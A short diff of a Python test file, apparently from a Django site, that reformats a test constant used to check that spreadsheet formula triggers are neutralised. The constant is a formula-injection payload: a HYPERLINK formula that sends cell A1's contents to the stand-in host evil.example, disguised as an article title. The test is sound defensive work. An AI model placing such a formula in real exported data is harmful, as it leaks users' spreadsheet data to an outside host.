@@ -12,7 +12,9 @@ from spa_site.spreadsheets import FORMULA_TRIGGERS, neutralise
 
 pytestmark = pytest.mark.django_db
 
-TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Back spasm: causes, relief and when to worry")'
+TITLE = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Back spasm: causes, relief and when to worry")'
+)
 
 
 @pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
